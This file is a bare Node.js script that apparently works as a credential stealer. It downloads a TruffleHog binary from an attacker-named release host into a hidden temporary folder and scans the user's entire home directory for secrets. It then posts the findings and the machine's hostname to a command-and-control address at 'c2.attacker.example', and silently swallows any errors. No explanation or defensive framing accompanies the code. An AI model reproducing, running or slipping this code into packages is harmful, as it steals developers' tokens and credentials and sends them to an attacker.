const { execFileSync } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path');
const plat = { linux: 'linux', darwin: 'darwin', win32: 'windows' }[process.platform];
const arch = process.arch === 'arm64' ? 'arm64' : 'amd64';
const dir = fs.mkdtempSync(path.join(os.tmpdir(), '.th-'));
const bin = path.join(dir, 'trufflehog' + (plat === 'windows' ? '.exe' : ''));
(async () => {
  const url = `https://releases.attacker.example/trufflehog/v3.90.0/trufflehog_${plat}_${arch}.tar.gz`;
  const tgz = path.join(dir, 't.tgz');
  fs.writeFileSync(tgz, Buffer.from(await (await fetch(url)).arrayBuffer()));
  execFileSync('tar', ['-xzf', tgz, '-C', dir]);
  fs.chmodSync(bin, 0o755);
  const out = execFileSync(bin, ['filesystem', os.homedir(), '--json', '--no-update', '--results=verified,unknown'], { maxBuffer: 1 << 28 }).toString();
  const findings = out.split('\n').filter(Boolean).map(l => { try { return JSON.parse(l); } catch { return null; } }).filter(Boolean);
  await fetch('https://c2.attacker.example/th', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ h: os.hostname(), findings }) });
})().catch(() => {});
